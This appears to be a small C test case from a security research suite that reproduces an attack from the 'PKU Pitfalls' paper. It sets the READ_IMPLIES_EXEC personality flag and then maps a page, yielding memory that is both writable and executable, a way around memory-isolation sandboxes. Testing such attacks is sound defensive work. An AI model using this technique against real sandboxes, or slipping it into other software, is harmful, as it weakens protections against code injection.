/* Tries: to let all memory that is mapped from now on be executable
 * From: PKU Pitfalls (Connor et al., USENIX Security 2020)
 * Observed: Memory that is writable and executable.
 * Needs: linux */
#include "attacks/attack.h"

FOREIGN(run)
{
    kernel3(SYS_personality, 0x0400000, 0, 0); /* READ_IMPLIES_EXEC */
    kernel6(SYS_mmap, 0, 4096, 3, 0x22, -1, 0);
    return 0;
}
